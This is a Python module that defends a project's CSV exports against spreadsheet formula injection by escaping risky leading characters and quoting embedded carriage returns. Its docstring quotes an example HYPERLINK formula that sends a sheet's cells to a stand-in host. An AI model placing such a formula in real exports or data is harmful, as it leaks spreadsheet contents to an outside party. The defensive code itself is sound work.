"""The one rule for the cells of every CSV the engine writes: nothing a spreadsheet would run.

Excel and LibreOffice take a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula,
and one that starts with a tab or a carriage return can be read as one too; a formula such as
``=HYPERLINK("http://x.example/?"&A1,"klik")`` sends the sheet's other cells away when
clicked. Exports hold values that came from outside (an event's provider id is any non-blank
string its sender chose), so every export (``search.to_csv``, ``exports.events_csv``,
``audit.audit_csv``) writes its rows with ``csv_text``: each cell through ``csv_cell``, which
gives such a cell a leading apostrophe; spreadsheets show it as text and do not run it.

A value that starts with an apostrophe itself gets one more, so the rule can be undone without
guessing: a cell that starts with ``'`` is the value after it. Otherwise a reason typed as
``'=see ticket`` and one typed as ``=see ticket`` were the same cell, and whoever recomputes an
audit entry's hash from the CSV (docs/access.md) could not tell which the hash covers.

Numbers take the same rule, with no exemption, as the audit CSV always did: no export has a
column that can be negative (ids, counts, attempts), so an exemption would guard nothing, and a
"number" could only be exempt by its type, never by how the text looks.

A carriage return inside a cell is the other way in: a spreadsheet starts a new row there, so
``x\\r=HYPERLINK(...)`` would put the formula at the start of a row of its own. Python's
``csv`` quotes a cell holding the line terminator's characters only, and the exports end their
lines with ``\\n``; ``csv_text`` therefore writes with ``\\r\\n`` (so such a cell is quoted, and
stays one cell) and ends each line with ``\\n``, as before.

docs/support.md ("CSV exports") says this for people.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Callable, Iterable, Iterator, Sequence
from typing import Final

FORMULA_START: Final = ("=", "+", "-", "@", "\t", "\r")
"""A spreadsheet runs (or may run) a cell that starts with one of these as a formula."""

_MARKED: Final = (*FORMULA_START, "'")
"""A cell that starts with one of these gets a leading ``'``: a formula, or the mark itself."""

_QUOTING_END: Final = "\r\n"
"""The terminator the rows are written with: ``csv`` quotes a cell holding either character."""


def csv_cell(value: object) -> str:
    """``value`` as a CSV cell: ``None`` empty, anything else as text, with a leading ``'``
    when a spreadsheet would take it as a formula, or when it starts with ``'`` already (so
    that dropping the first ``'`` of a cell always gives the value)."""
    text = "" if value is None else str(value)
    return "'" + text if text.startswith(_MARKED) else text


def csv_text(header: Sequence[str], rows: Iterable[Iterable[object]]) -> str:
    """A CSV of ``header`` (the export's own column names) and ``rows``, every cell through
    ``csv_cell``, lines ending in ``\\n``; a cell holding a line break is quoted."""
    return "".join(csv_lines(header, rows))


def csv_lines(header: Sequence[str], rows: Iterable[Iterable[object]]) -> Iterator[str]:
    """``csv_text`` a line at a time (the header first)."""
    line = _line_writer()
    yield line(header)
    for row in rows:
        yield line(csv_cell(value) for value in row)


def csv_rows_text(rows: Iterable[Iterable[object]]) -> str:
    """The lines of ``rows`` as ``csv_text`` writes them, without a header: an export written
    a page at a time (``integrator.export_stream``) is the same bytes as one built whole."""
    line = _line_writer()
    return "".join(line(csv_cell(value) for value in row) for row in rows)


def _line_writer() -> Callable[[Iterable[str]], str]:
    """A function that makes one CSV line of its cells, quoted for ``\\r\\n``, ending ``\\n``."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator=_QUOTING_END)

    def line(cells: Iterable[str]) -> str:
        buffer.seek(0)
        buffer.truncate()
        writer.writerow(cells)
        return buffer.getvalue().removesuffix(_QUOTING_END) + "\n"

    return line
